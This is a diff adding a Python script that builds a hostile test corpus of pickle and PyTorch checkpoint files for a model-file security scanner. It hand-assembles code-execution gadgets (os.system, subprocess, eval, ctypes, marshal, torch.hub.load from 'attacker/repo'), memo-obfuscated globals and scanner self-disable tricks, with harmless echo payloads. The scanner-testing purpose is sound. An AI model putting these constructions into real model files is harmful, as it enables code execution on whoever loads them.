@@ -1,0 +1,1053 @@
+#!/usr/bin/env python3
+"""Generate the hostile corpus of tests/hostile/: files/ and expected.json.
+
+Every file is BUILT here, from Python's pickle/pickletools/zipfile/tarfile/struct/zlib and real
+torch (pip torch 2.x) for the benign bases; no byte is copied from another project. Nothing that is
+generated is ever unpickled by this script except the benign files, which are checked with
+torch.load(weights_only=True) (or, for protocol 4/5 saves that weights_only refuses, with a static
+opcode/global walk).
+
+    python3 tests/hostile/gen_hostile.py            # (re)write files/ and expected.json
+
+expected.json is a list of {"file", "verdict", "rule", "technique", "source"} with optional
+  "alt":     [{"verdict", "rule"}]  other outcomes that are equally correct (used sparingly, only
+             where the policy allows more than one reading, e.g. which of two structural errors
+             is reported first);
+  "subject": text that must appear in the subject of a finding carrying `rule` (proves that a
+             global built from memo operands was resolved to the right name);
+  "warnings": rules that must also appear among the findings (warnings/notes of safe files).
+"rule" must appear among the findings of the file (null for safe files, which may carry
+warnings but no error).
+
+Payloads never do anything worse than `echo pthsafe-hostile`; they are never executed.
+"""
+
+import os
+import sys
+
+sys.dont_write_bytecode = True
+if os.environ.get("PYTHONHASHSEED") != "0":  # deterministic set/dict order in torch pickles
+    os.environ["PYTHONHASHSEED"] = "0"
+    os.execv(sys.executable, [sys.executable] + sys.argv)
+
+import gzip
+import io
+import json
+import marshal
+import pickle
+import pickletools
+import shutil
+import struct
+import tarfile
+import warnings
+import zipfile
+import zlib
+from collections import Counter, OrderedDict
+
+warnings.simplefilter("ignore")
+
+HERE = os.path.dirname(os.path.abspath(__file__))
+OUT = os.path.join(HERE, "files")
+CMD = "echo pthsafe-hostile"
+
+import torch  # noqa: E402
+
+CASES = []  # expected.json entries
+
+
+def add(name, data, verdict, rule, technique, source, alt=None, subject=None, warnings=None):
+    assert not any(c["file"] == name for c in CASES), name
+    with open(os.path.join(OUT, name), "wb") as f:
+        f.write(data)
+    e = {"file": name, "verdict": verdict, "rule": rule, "technique": technique, "source": source}
+    if alt:
+        e["alt"] = alt
+    if subject:
+        e["subject"] = subject
+    if warnings:
+        e["warnings"] = warnings
+    CASES.append(e)
+
+
+# =========================================================================== pickle builder
+# Hand-assembled opcodes (pickletools names in comments). Protocol-2 encodings unless noted.
+
+def u8(n): return struct.pack("<B", n)
+def u16(n): return struct.pack("<H", n)
+def u32(n): return struct.pack("<I", n)
+def i32(n): return struct.pack("<i", n)
+def u64(n): return struct.pack("<Q", n)
+
+
+PROTO2 = b"\x80\x02"
+STOP = b"."
+MARK = b"("
+POP = b"0"
+TUPLE = b"t"
+REDUCE = b"R"
+BUILD = b"b"
+NONE = b"N"
+EMPTY_TUPLE = b")"
+EMPTY_LIST = b"]"
+EMPTY_DICT = b"}"
+NEWOBJ = b"\x81"
+APPEND = b"a"
+APPENDS = b"e"
+SETITEM = b"s"
+SETITEMS = b"u"
+BINPERSID = b"Q"
+NEWFALSE = b"\x89"
+NEWTRUE = b"\x88"
+STACK_GLOBAL = b"\x93"
+MEMOIZE = b"\x94"
+
+
+def glob(mod, name):                      # GLOBAL
+    return b"c" + mod.encode() + b"\n" + name.encode() + b"\n"
+
+
+def uni(s):                               # BINUNICODE
+    b = s.encode("utf-8", "surrogatepass")
+    return b"X" + u32(len(b)) + b
+
+
+def suni(s):                              # SHORT_BINUNICODE (protocol 4)
+    b = s.encode()
+    return b"\x8c" + u8(len(b)) + b
+
+
+def integer(n):                           # BININT1 / BININT2 / BININT / LONG1
+    if 0 <= n < 256:
+        return b"K" + u8(n)
+    if 0 <= n < 65536:
+        return b"M" + u16(n)
+    if -2**31 <= n < 2**31:
+        return b"J" + i32(n)
+    b = pickle.encode_long(n)
+    assert len(b) < 256
+    return b"\x8a" + u8(len(b)) + b
+
+
+def put(i): return b"q" + u8(i) if i < 256 else b"r" + u32(i)   # BINPUT / LONG_BINPUT
+def get(i): return b"h" + u8(i) if i < 256 else b"j" + u32(i)   # BINGET / LONG_BINGET
+
+
+def enc(v):
+    """Encode a plain value: str, int, bool, None, bytes (via _codecs.encode), tuple, list, raw."""
+    if isinstance(v, Raw):
+        return v.b
+    if v is None:
+        return NONE
+    if v is True:
+        return NEWTRUE
+    if v is False:
+        return NEWFALSE
+    if isinstance(v, int):
+        return integer(v)
+    if isinstance(v, float):
+        return b"G" + struct.pack(">d", v)
+    if isinstance(v, str):
+        return uni(v)
+    if isinstance(v, bytes):              # protocol 2 bytes: _codecs.encode(latin-1 text, 'latin1')
+        return glob("_codecs", "encode") + MARK + uni(v.decode("latin-1")) + uni("latin1") + TUPLE + REDUCE
+    if isinstance(v, tuple):
+        return MARK + b"".join(enc(x) for x in v) + TUPLE
+    if isinstance(v, list):
+        return EMPTY_LIST + (MARK + b"".join(enc(x) for x in v) + APPENDS if v else b"")
+    if isinstance(v, dict):
+        return EMPTY_DICT + (MARK + b"".join(enc(k) + enc(x) for k, x in v.items()) + SETITEMS if v else b"")
+    raise TypeError(type(v))
+
+
+class Raw:
+    def __init__(self, b): self.b = b
+
+
+def call(mod, name, *args):
+    """GLOBAL mod name; MARK args TUPLE; REDUCE  -> leaves mod.name(*args) on the stack."""
+    return glob(mod, name) + enc(tuple(args)) + REDUCE
+
+
+def callv(fn_bytes, *args):
+    """REDUCE on whatever fn_bytes pushes."""
+    return fn_bytes + enc(tuple(args)) + REDUCE
+
+
+def pk(body):
+    """A whole protocol-2 pickle whose result is what `body` leaves on the stack."""
+    return PROTO2 + body + STOP
+
+
+def getattr_chain(mod, attr, *args):
+    """builtins.getattr(builtins.__import__(mod), attr)(*args)."""
+    imp = call("builtins", "__import__", mod)
+    fn = glob("builtins", "getattr") + MARK + imp + uni(attr) + TUPLE + REDUCE
+    return callv(fn, *args)
+
+
+SYSTEM = pk(call("os", "system", CMD))
+
+
+def inject(original, payload_body):
+    """fickling-style injection: run payload_body first, POP its result, then the original pickle."""
+    assert original[:2] == PROTO2, original[:4]
+    return PROTO2 + payload_body + POP + original[2:]
+
+
+# =========================================================================== zip writer
+# Reproduces torch's writer (miniz via PyTorchStreamWriter) byte for byte: local header with
+# flags 0x0808 and zero CRC/sizes, an 'FB' extra field padding the data to 64 bytes, a data
+# descriptor, a central directory, then zip64 EOCD + locator + classic EOCD. Every knob below
+# exists to produce one lie.
+
+class Rec:
+    def __init__(self, name, data, method=0, **kw):
+        self.name = name
+        self.data = data
+        self.method = method
+        self.local_name = kw.get("local_name", name)   # name in the local header
+        self.crc = kw.get("crc")                       # override the CRC (central + descriptor)
+        self.local_flags = kw.get("local_flags", 0x0808)
+        self.central_flags = kw.get("central_flags", 0x0808)
+        self.usize = kw.get("usize")                   # override the declared uncompressed size
+        self.csize = kw.get("csize")                   # override the declared compressed size
+        self.force_zip64_extra = kw.get("zip64_extra", False)
+        self.offset_override = kw.get("offset")        # central directory's local header offset
+        self.method_central = kw.get("method_central", method)
+        self.method_local = kw.get("method_local", method)
+        self.payload = None                            # filled by the writer (compressed bytes)
+
+
+def build_zip(records, prepend=b"", append=b"", zip64_eocd_patch=None, eocd_patch=None, alignment=64):
+    out = bytearray(prepend)
+    base = len(prepend)
+    offsets = []
+    for r in records:
+        payload = r.data if r.method == 0 else raw_deflate(r.data)
+        r.payload = payload
+        cursor = len(out) - base
+        name = r.local_name.encode()
+        start = cursor + 30 + len(name) + 4
+        pad = (alignment - start % alignment) % alignment
+        extra = b"FB" + u16(pad) + b"Z" * pad
+        out += b"PK\x03\x04" + u16(0) + u16(r.local_flags) + u16(r.method_local) + u16(0) + u16(0)
+        out += u32(0) + u32(0) + u32(0) + u16(len(name)) + u16(len(extra)) + name + extra
+        out += payload
+        crc = r.crc if r.crc is not None else zlib.crc32(r.data)
+        if payload:
+            out += b"PK\x07\x08" + u32(crc) + u32(len(payload)) + u32(len(r.data))
+        offsets.append(cursor)
+    cd_start = len(out) - base
+    for r, off in zip(records, offsets):
+        crc = r.crc if r.crc is not None else zlib.crc32(r.data)
+        usize = r.usize if r.usize is not None else len(r.data)
+        csize = r.csize if r.csize is not None else len(r.payload)
+        off = r.offset_override if r.offset_override is not None else off
+        extra = b""
+        if r.force_zip64_extra or usize >= 0xFFFFFFFF or csize >= 0xFFFFFFFF:
+            extra = u16(1) + u16(16) + u64(usize) + u64(csize)
+            usize32 = csize32 = 0xFFFFFFFF
+        else:
+            usize32, csize32 = usize, csize
+        name = r.name.encode()
+        out += b"PK\x01\x02" + u16(0) + u16(0) + u16(r.central_flags) + u16(r.method_central) + u16(0) + u16(0)
+        out += u32(crc) + u32(csize32) + u32(usize32) + u16(len(name)) + u16(len(extra)) + u16(0)
+        out += u16(0) + u16(0) + u32(0) + u32(off) + name + extra
+    cd_size = len(out) - base - cd_start
+    n = len(records)
+    z64 = {"made_by": 0x031E, "needed": 0x2D, "entries": n, "entries_total": n, "cd_size": cd_size,
+           "cd_offset": cd_start}
+    if zip64_eocd_patch:
+        z64.update(zip64_eocd_patch)
+    z64_at = len(out) - base
+    out += b"PK\x06\x06" + u64(44) + u16(z64["made_by"]) + u16(z64["needed"]) + u32(0) + u32(0)
+    out += u64(z64["entries"]) + u64(z64["entries_total"]) + u64(z64["cd_size"]) + u64(z64["cd_offset"])
+    out += b"PK\x06\x07" + u32(0) + u64(z64_at) + u32(1)
+    e = {"entries": n, "entries_total": n, "cd_size": cd_size, "cd_offset": cd_start}
+    if eocd_patch:
+        e.update(eocd_patch)
+    out += b"PK\x05\x06" + u16(0) + u16(0) + u16(e["entries"]) + u16(e["entries_total"])
+    out += u32(e["cd_size"]) + u32(e["cd_offset"]) + u16(0)
+    out += append
+    return bytes(out)
+
+
+def raw_deflate(data, level=9):
+    c = zlib.compressobj(level, zlib.DEFLATED, -15)
+    return c.compress(data) + c.flush()
+
+
+def torch_bytes(obj, **kw):
+    buf = io.BytesIO()
+    torch.save(obj, buf, **kw)
+    return buf.getvalue()
+
+
+def records_of(zbytes):
+    z = zipfile.ZipFile(io.BytesIO(zbytes))
+    return [Rec(i.filename, z.read(i.filename)) for i in z.infolist()]
+
+
+def rezip(recs, **kw):
+    return build_zip([Rec(r.name, r.data, r.method) if isinstance(r, Rec) else r for r in recs], **kw)
+
+
+def replace(recs, suffix, data):
+    out = []
+    for r in recs:
+        out.append(Rec(r.name, data) if r.name.endswith(suffix) else Rec(r.name, r.data))
+    return out
+
+
+def data_pkl(recs):
+    return next(r.data for r in recs if r.name.endswith("/data.pkl"))
+
+
+# =========================================================================== tensor pickles
+# Hand-made data.pkl for storage/geometry attacks: {'w': _rebuild_tensor_v2(pid, off, size, stride)}
+
+def tensor_expr(numel, size, stride, offset=0, storage="FloatStorage", key="0"):
+    pid = MARK + uni("storage") + glob("torch", storage) + uni(key) + uni("cpu") + integer(numel) + TUPLE
+    args = (MARK + pid + BINPERSID + integer(offset) + enc(tuple(size)) + enc(tuple(stride)) + NEWFALSE
+            + glob("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE + TUPLE)
+    return glob("torch._utils", "_rebuild_tensor_v2") + args + REDUCE
+
+
+def tensor_pickle(numel, size, stride, offset=0, storage="FloatStorage", key="0", extra=b""):
+    t = tensor_expr(numel, size, stride, offset, storage, key)
+    return PROTO2 + EMPTY_DICT + uni("w") + t + extra + SETITEM + STOP
+
+
+def tensor_zip(pkl, storage_bytes, folder="archive", extra_recs=()):
+    recs = [Rec(f"{folder}/data.pkl", pkl), Rec(f"{folder}/byteorder", b"little")]
+    if storage_bytes is not None:
+        recs.append(Rec(f"{folder}/data/0", storage_bytes))
+    recs += list(extra_recs)
+    recs += [Rec(f"{folder}/version", b"3\n"), Rec(f"{folder}/.data/serialization_id", b"0" * 40)]
+    return build_zip(recs)
+
+
+# =========================================================================== checks
+
+ALLOWED_MODULE_NAMES = None
+
+
+def torch_loads_weights_only(data):
+    torch.load(io.BytesIO(data), weights_only=True)
+
+
+def static_globals(pkl):
+    """Every GLOBAL / STACK_GLOBAL name of a pickle (string operands resolved through the memo)."""
+    names, stack, memo = [], [], {}
+    for op, arg, _ in pickletools.genops(pkl):
+        if op.name == "GLOBAL":
+            names.append(arg.replace(" ", "."))
+        elif op.name in ("SHORT_BINUNICODE", "BINUNICODE", "UNICODE", "BINUNICODE8"):
+            stack.append(arg)
+        elif op.name == "MEMOIZE":
+            memo[len(memo)] = stack[-1] if stack else None
+        elif op.name in ("BINPUT", "LONG_BINPUT", "PUT"):
+            memo[arg] = stack[-1] if stack else None
+        elif op.name in ("BINGET", "LONG_BINGET", "GET"):
+            stack.append(memo.get(arg))
+        elif op.name == "STACK_GLOBAL":
+            names.append(f"{stack[-2]}.{stack[-1]}")
+        else:
+            stack.append(None)
+    return names
+
+
+def allowed_global(name):
+    # torch's default weights_only allowlist, as far as these benign files use it
+    return (name.startswith("torch._utils._rebuild_") or name.startswith("torch.") and name.endswith("Storage")
+            or name in {"collections.OrderedDict", "collections.Counter", "torch._tensor._rebuild_from_type_v2",
+                        "torch.Size", "torch.device", "torch.Tensor", "torch.nn.parameter.Parameter",
+                        "_codecs.encode", "__builtin__.bytearray", "__builtin__.set", "__builtin__.complex",
+                        "builtins.bytearray", "builtins.set", "builtins.complex",
+                        "torch.serialization._get_layout", "torch.UntypedStorage"}
+            or name.startswith("torch.") and hasattr(torch, name.split(".", 1)[1])
+            and isinstance(getattr(torch, name.split(".", 1)[1]), torch.dtype))
+
+
+def zip_pickles(data):
+    z = zipfile.ZipFile(io.BytesIO(data))
+    return [z.read(n) for n in z.namelist() if n.endswith(".pkl")]
+
+
+# =========================================================================== corpus
+
+def base_state_dict(seed=0):
+    torch.manual_seed(seed)
+    m = torch.nn.Sequential(torch.nn.Linear(3, 2), torch.nn.ReLU(), torch.nn.Linear(2, 1))
+    return m.state_dict()
+
+
+def gen_gadgets():
+    """peers.md §2a: callables a denylist misses. Bare pickles and injected torch checkpoints."""
+    base = records_of(torch_bytes(base_state_dict()))
+    orig = data_pkl(base)
+
+    def zipped(body):
+        return rezip(replace(base, "/data.pkl", inject(orig, body)))
+
+    G = "pickle_global_refused"
+    B = "pickle_global_blocked"
+    inner = SYSTEM  # a nested pickle for the loaders-of-pickles gadgets
+    code = marshal.dumps(compile(f"__import__('os').system({CMD!r})", "<x>", "exec"))
+    items = [
+        # name, container ('pkl' bare / 'zip' injected / ext), body, rule, technique, source
+        ("os_system.pkl", "pkl", call("os", "system", CMD), B, "os.system", "peers §2a; torch blocklist sys/os/posix/nt"),
+        ("posix_system.pt", "zip", call("posix", "system", CMD), B, "posix.system (alias of os)", "peers §2a submodule/alias names"),
+        ("nt_system.pt", "pkl", call("nt", "system", CMD), B, "nt.system (Windows alias of os)", "peers §2a submodule/alias names"),
+        ("sys_modules.pkl", "pkl", glob("sys", "modules"), B, "sys.modules handle", "pth-format §3.4 blocklist"),
+        ("subprocess_popen.pth", "zip", call("subprocess", "Popen", ["sh", "-c", CMD]), G, "subprocess.Popen", "peers §2a"),
+        ("subprocess_check_output.pkl", "pkl", call("subprocess", "check_output", CMD), G, "subprocess.check_output", "peers §2a"),
+        ("builtins_eval.pkl", "pkl", call("builtins", "eval", f"__import__('os').system({CMD!r})"), G, "builtins.eval", "peers §2a"),
+        ("builtins_exec.pt", "zip", call("builtins", "exec", f"import os; os.system({CMD!r})"), G, "builtins.exec", "peers §2a"),
+        ("builtins_getattr_import.pkl", "pkl", getattr_chain("os", "system", CMD), G, "builtins.getattr(builtins.__import__('os'), 'system')", "peers §2a universal resolvers"),
+        ("builtins_import.pkl", "pkl", call("builtins", "__import__", "os"), G, "builtins.__import__", "peers §2a"),
+        ("runpy_run_code.pkl", "pkl", call("runpy", "_run_code", f"import os; os.system({CMD!r})", {}), G, "runpy._run_code", "fickling GHSA-wfq2-52f7-7qvj"),
+        ("runpy_run_path.pt", "zip", call("runpy", "run_path", "/tmp/payload.py"), G, "runpy.run_path", "fickling GHSA-wfq2-52f7-7qvj"),
+        ("cprofile_run.pkl", "pkl", call("cProfile", "run", f"import os; os.system({CMD!r})"), G, "cProfile.run", "fickling GHSA-p523-jq9w-64x9"),
+        ("profile_run.pkl", "pkl", call("profile", "run", f"import os; os.system({CMD!r})"), G, "profile.run", "peers §2a"),
+        ("pty_spawn.pkl", "pkl", call("pty", "spawn", ["sh", "-c", CMD]), G, "pty.spawn", "fickling GHSA-r7v6-mfhq-g3m2"),
+        ("pdb_run.pkl", "pkl", call("pdb", "run", f"import os; os.system({CMD!r})"), G, "pdb.run", "peers §2a pdb/bdb"),
+        ("timeit_timeit.pkl", "pkl", call("timeit", "timeit", f"__import__('os').system({CMD!r})", "pass", Raw(NONE), 1), G, "timeit.timeit", "peers §2a"),
+        ("code_interactive_interpreter.pkl", "pkl",
+         callv(glob("builtins", "getattr") + MARK + glob("code", "InteractiveInterpreter") + EMPTY_TUPLE + NEWOBJ
+               + uni("runsource") + TUPLE + REDUCE, f"import os; os.system({CMD!r})"), G,
+         "code.InteractiveInterpreter().runsource via NEWOBJ + getattr", "fickling GHSA-5hvc-6wx8-mvv4"),
+        ("ctypes_cdll.pkl", "pkl", callv(glob("builtins", "getattr") + MARK + call("ctypes", "CDLL", "libc.so.6") + uni("system") + TUPLE + REDUCE, CMD.encode()), G, "ctypes.CDLL('libc.so.6').system", "fickling GHSA-q5qq-mvfm-j35x"),
+        ("importlib_import_module.pt", "zip", callv(glob("builtins", "getattr") + MARK + call("importlib", "import_module", "os") + uni("system") + TUPLE + REDUCE, CMD), G, "importlib.import_module('os').system", "fickling GHSA-q5qq-mvfm-j35x"),
+        ("pkgutil_resolve_name.pkl", "pkl", callv(call("pkgutil", "resolve_name", "os:system"), CMD), G, "pkgutil.resolve_name('os:system')", "peers §2a universal resolvers (promptfoo)"),
+        ("operator_attrgetter.pkl", "pkl", callv(call("operator", "attrgetter", "system"), Raw(call("importlib", "import_module", "os"))), G, "operator.attrgetter", "picklescan GHSA-m273-6v24-x4m4"),
+        ("operator_methodcaller.pkl", "pkl", callv(call("operator", "methodcaller", "system", CMD), Raw(call("importlib", "import_module", "os"))), G, "operator.methodcaller", "picklescan GHSA-955r-x9j8-7rhh"),
+        ("_operator_attrgetter.pkl", "pkl", callv(call("_operator", "attrgetter", "system"), Raw(call("importlib", "import_module", "os"))), G, "_operator.attrgetter (C module alias)", "picklescan GHSA-955r-x9j8-7rhh"),
+        ("functools_partial.pkl", "pkl", callv(call("functools", "partial", Raw(glob("builtins", "eval")), f"__import__('os').system({CMD!r})")), G, "functools.partial(eval, src)()", "peers §2a"),
+        ("pip_main.pt", "zip", call("pip", "main", ["install", "pthsafe-hostile-nonexistent"]), G, "pip.main", "CVE-2025-1716 (picklescan <0.0.21)"),
+        ("webbrowser_open.pkl", "pkl", call("webbrowser", "open", "http://127.0.0.1:9/pthsafe-hostile"), G, "webbrowser.open", "peers §2a"),
+        ("shutil_rmtree.pkl", "pkl", call("shutil", "rmtree", "/tmp/pthsafe-hostile-nonexistent"), G, "shutil.rmtree", "peers §2a"),
+        ("asyncio_unix_subprocess.pt", "zip", call("asyncio.unix_events", "_UnixSubprocessTransport._start", Raw(NONE), ["sh", "-c", CMD], True, Raw(NONE), Raw(NONE), Raw(NONE), 0), G, "asyncio.unix_events._UnixSubprocessTransport._start", "CVE-2025-10157"),
+        ("torch_load_nested.pt", "zip", call("torch", "load", Raw(call("io", "BytesIO", inner))), G, "torch.load of a nested pickle", "peers §2a third-party ML gadgets"),
+        ("torch_hub_load.pth", "zip", call("torch.hub", "load", "attacker/repo", "model"), G, "torch.hub.load", "peers §2a third-party ML gadgets"),
+        ("torch_load_from_bytes.pt", "zip", call("torch.storage", "_load_from_bytes", inner), G, "torch.storage._load_from_bytes (nested pickle)", "peers §2a third-party ML gadgets"),
+        ("numpy_runstring.pkl", "pkl", call("numpy.testing._private.utils", "runstring", f"import os; os.system({CMD!r})", {}), G, "numpy.testing._private.utils.runstring", "peers §2a third-party ML gadgets"),
+        ("torch_collect_env_run.pt", "zip", call("torch.utils.collect_env", "run", CMD), G, "torch.utils.collect_env.run", "peers §2a third-party ML gadgets (modelscan#338)"),
+        ("pickle_loads_nested.pkl", "pkl", call("pickle", "loads", inner), G, "pickle.loads of a nested pickle", "picklescan GHSA-84r2-jw7c-4r5q"),
+        ("_pickle_loads_nested.pkl", "pkl", call("_pickle", "loads", inner), G, "_pickle.loads (C alias)", "fickling GHSA-wccx-j62j-r448"),
+        ("marshal_function.pkl", "pkl", callv(call("types", "FunctionType", Raw(call("marshal", "loads", code)), {})), G, "types.FunctionType(marshal.loads(code), {})()", "fickling GHSA-565g-hwwr-4pp3"),
+        ("types_codetype.pkl", "pkl", call("types", "CodeType", 0, 0, 0, 0, 0, 0, b"", (), (), (), "x", "x", "x", 1, b"", b"", (), ()), G, "types.CodeType construction", "fickling GHSA-565g-hwwr-4pp3"),
+        ("doctest_debug_script.pkl", "pkl", call("doctest", "debug_script", f"import os; os.system({CMD!r})"), G, "doctest.debug_script", "fickling GHSA-m6fh-58r7-x697"),
+        ("io_fileio_write.pkl", "pkl", callv(glob("builtins", "getattr") + MARK + call("_io", "FileIO", "/tmp/pthsafe-hostile", "w") + uni("write") + TUPLE + REDUCE, b"x"), G, "_io.FileIO write", "peers §2a alias names"),
+        ("distutils_write_file.pkl", "pkl", call("distutils.file_util", "write_file", "/tmp/pthsafe-hostile", ["x"]), G, "distutils.file_util.write_file", "peers §2a alias names"),
+        ("multiprocessing_spawnv.pkl", "pkl", call("multiprocessing.util", "spawnv_passfds", "/bin/sh", ["sh", "-c", CMD], ()), G, "multiprocessing.util.spawnv_passfds", "fickling GHSA-q5qq-mvfm-j35x"),
+        ("uuid_get_command_stdout.pkl", "pkl", call("uuid", "_get_command_stdout", "sh", "-c", CMD), G, "uuid._get_command_stdout (calls Popen)", "peers §2a"),
+        ("rebuild_from_numpy.pt", "zip", call("torch._utils", "_rebuild_device_tensor_from_numpy", Raw(NONE), Raw(NONE), "xla", False), G, "torch._utils._rebuild_device_tensor_from_numpy (needs numpy; refused by policy)", "policy.md Globals"),
+        ("rebuild_xla_tensor.pt", "zip", call("torch._utils", "_rebuild_xla_tensor", Raw(NONE), Raw(NONE), "xla", False), G, "torch._utils._rebuild_xla_tensor (never allowlisted)", "pth-format §3.2"),
+        ("py2_builtin_eval.pkl", "pkl", call("__builtin__", "eval", f"__import__('os').system({CMD!r})"), G, "py2 name __builtin__.eval (maps to builtins.eval)", "peers §2a; pth-format §3.4 IMPORT_MAPPING"),
+        ("py2_copy_reg_reconstructor.pkl", "pkl", call("copy_reg", "_reconstructor", Raw(glob("subprocess", "Popen")), Raw(glob("__builtin__", "object")), Raw(NONE)), G, "py2 name copy_reg._reconstructor (maps to copyreg)", "pth-format §3.4 IMPORT_MAPPING"),
+        ("py2_builtin_getattr.pt", "zip", callv(glob("__builtin__", "getattr") + MARK + call("__builtin__", "__import__", "os") + uni("system") + TUPLE + REDUCE, CMD), G, "py2 name __builtin__.getattr/__import__", "pth-format §3.4"),
+        ("dotted_builtins_subclasses.pkl", "pkl", call("builtins", "print.__class__.__base__.__subclasses__"), G, "dotted attribute chain from builtins (print.__class__.__base__.__subclasses__)", "modelscan#338"),
+        ("dotted_pathlib_os_system.pkl", "pkl", call("pathlib", "os.system", CMD), G, "dotted name: pathlib + os.system", "fickling GHSA-5j3x-jp52-966f"),
+        ("dotted_ordereddict_attr.pkl", "pkl", callv(glob("collections", "OrderedDict.__init__.__globals__.get"), "sys"), G, "dotted name rooted at an allowed global (collections.OrderedDict.<attr>)", "policy.md Globals (no attribute walking)"),
+        ("dotted_torch_attr.pt", "zip", callv(glob("torch", "Tensor.__reduce_ex__.__globals__.get"), "sys"), G, "dotted name rooted at an allowed global (torch.Tensor.<attr>)", "policy.md Globals (no attribute walking)"),
+        ("scanner_self_disable.pkl", "pkl", call("fickling", "always_check_safety") + POP + call("os", "system", CMD), G, "scanner self-disable import (fickling) before the payload", "fickling GHSA-fphw-536r-4p88"),
+    ]
+    for name, kind, body, rule, tech, src in items:
+        if kind == "pkl":
+            add(name, pk(body), "unsafe", rule, tech, src)
+        else:
+            add(name, zipped(body), "unsafe", rule, tech + " (injected before a real torch state_dict)", src)
+
+    # A whole nn.Module pickled by torch.save (torch-made): every class is a global.
+    torch.manual_seed(1)
+    model = torch.nn.Sequential(torch.nn.Linear(2, 2))
+    add("whole_module_torch_save.pt", torch_bytes(model), "unsafe", G,
+        "torch.save(nn.Module) (class globals torch.nn.modules.*)", "pth-format §3.2; mlcommons/inference#2056 class")
+
+
+def gen_vm():
+    """peers.md §2b: differences in how the pickle VM is parsed."""
+    G, B = "pickle_global_refused", "pickle_global_blocked"
+    OR = "pickle_opcode_refused"
+
+    # STACK_GLOBAL straight, and with operands that only a full memo simulation resolves.
+    add("stack_global_os_system.pkl", b"\x80\x04" + suni("os") + suni("system") + STACK_GLOBAL + enc((CMD,)) + REDUCE + STOP,
+        "unsafe", B, "STACK_GLOBAL os.system (protocol 4)", "peers §2b", subject="os.system")
+    body = (suni("posix") + put(7) + POP + uni("collections") + put(3) + POP       # decoys
+            + suni("system") + put(9) + POP + uni("OrderedDict") + put(4) + POP
+            + get(7) + get(9) + STACK_GLOBAL + enc((CMD,)) + REDUCE)
+    add("stack_global_memo_binput.pkl", b"\x80\x04" + body + STOP, "unsafe", B,
+        "STACK_GLOBAL operands from BINPUT/BINGET with decoy strings in between", "picklescan #14/#22; peers §2b", subject="posix.system")
+    body = (suni("collections") + MEMOIZE + suni("OrderedDict") + MEMOIZE + POP + POP
+            + suni("builtins") + MEMOIZE + suni("eval") + MEMOIZE + POP + POP
+            + get(2) + get(3) + STACK_GLOBAL + enc((f"__import__('os').system({CMD!r})",)) + REDUCE)
+    add("stack_global_memoize.pkl", b"\x80\x04\x95" + u64(len(body) + 1) + body + STOP, "unsafe", G,
+        "STACK_GLOBAL operands from MEMOIZE numbering (inside a FRAME)", "peers §2b", subject="builtins.eval")
+    # Mixed numbering: text PUT 0/1 then MEMOIZE (index = len(memo) = 2, 3), then a MEMOIZE that
+    # overwrites index 1 after a POP-free re-PUT: a scanner that counts MEMOIZE from 0 resolves
+    # GET 2/3 to nothing and GET 1 to 'OrderedDict'.
+    body = (b"Vcollections\np0\n0" + b"VOrderedDict\np1\n0"
+            + suni("subprocess") + MEMOIZE + POP + suni("Popen") + MEMOIZE + POP
+            + get(2) + get(3) + STACK_GLOBAL + enc((["sh", "-c", CMD],)) + REDUCE)
+    add("stack_global_mixed_put_memoize.pkl", b"\x80\x04" + body + STOP, "unsafe", G,
+        "STACK_GLOBAL with mixed PUT / MEMOIZE numbering", "peers §2b; ModelAudit BINGET fixes", subject="subprocess.Popen")
+    body = (suni("nt") + b"r" + u32(0xFFFFFFF0) + POP + suni("system") + b"r" + u32(0x7FFFFFFF) + POP
+            + b"j" + u32(0xFFFFFFF0) + b"j" + u32(0x7FFFFFFF) + STACK_GLOBAL + enc((CMD,)) + REDUCE)
+    add("stack_global_long_binput.pkl", b"\x80\x04" + body + STOP, "unsafe", B,
+        "STACK_GLOBAL operands stored at huge LONG_BINPUT indices", "peers §2b/§2d", subject="nt.system")
+    # EOP: a STACK_GLOBAL operand that is not a string (CPython raises) followed by the payload.
+    body = integer(5) + suni("x") + STACK_GLOBAL + POP + call("os", "system", CMD)
+    add("stack_global_nonstring_then_payload.pkl", b"\x80\x04" + body + STOP, "unsafe", B,
+        "STACK_GLOBAL with an int operand (an error), then a payload", "picklescan GHSA-9gvj-pp9x-gcfr (EOP); peers §2b")
+    body = get(42) + POP + call("os", "system", CMD)
+    add("memo_missing_then_payload.pkl", pk(body), "unsafe", B,
+        "BINGET of an index never PUT (scanner KeyError), then a payload", "picklescan PR #52; peers §2b")
+
+    # Opcodes torch's weights_only never implements.
+    add("inst_os_system.pkl", b"(" + enc(CMD) + b"ios\nsystem\n.", "unsafe", OR,
+        "INST os.system (protocol 0 call opcode)", "peers §2b INST/OBJ", alt=[{"verdict": "unsafe", "rule": B}])
+    add("inst_allowed_class.pkl", b"(icollections\nOrderedDict\n.", "unsafe", OR,
+        "INST on an allowed class (the opcode itself is refused)", "pth-format §3.3")
+    add("obj_allowed_class.pkl", PROTO2 + MARK + glob("collections", "OrderedDict") + b"o" + STOP, "unsafe", OR,
+        "OBJ on an allowed class", "pth-format §3.3")
+    add("obj_popen_pop.pkl", PROTO2 + MARK + glob("subprocess", "Popen") + enc(["sh", "-c", CMD]) + b"o" + POP + EMPTY_DICT + STOP,
+        "unsafe", G, "OBJ subprocess.Popen followed by POP (call vanishes from an AST)", "fickling GHSA-mxhj-88fx-4pcv")
+    add("newobj_popen_pop.pkl", PROTO2 + glob("subprocess", "Popen") + enc((["sh", "-c", CMD],)) + NEWOBJ + POP + EMPTY_DICT + STOP,
+        "unsafe", G, "NEWOBJ subprocess.Popen followed by POP", "fickling GHSA-mxhj-88fx-4pcv")
+    add("newobj_ex.pkl", b"\x80\x04" + glob("collections", "OrderedDict") + EMPTY_TUPLE + EMPTY_DICT + b"\x92" + STOP,
+        "unsafe", OR, "NEWOBJ_EX (protocol 4 keyword construction)", "pth-format §3.3")
+    for n, op in (("ext1", b"\x82" + u8(1)), ("ext2", b"\x83" + u16(0x1234)), ("ext4", b"\x84" + u32(0x7FFFFFFF))):
+        add(f"{n}.pkl", PROTO2 + op + enc((CMD,)) + REDUCE + STOP, "unsafe", OR,
+            f"{n.upper()} (copyreg extension registry as call target)", "ModelAudit #623; huggingface/transformers#18801")
+    add("persid_text.pkl", b"Pos.system\n.", "unsafe", OR, "PERSID (text persistent id)", "policy.md Opcodes")
+    add("binpersid_module.pt", tensor_zip(PROTO2 + enc(("module", "Linear", "x.py", "import os")) + BINPERSID + STOP, None),
+        "unsafe", "pickle_persid_refused", "BINPERSID ('module', ...) legacy nn.Module source", "pth-format §3.8")
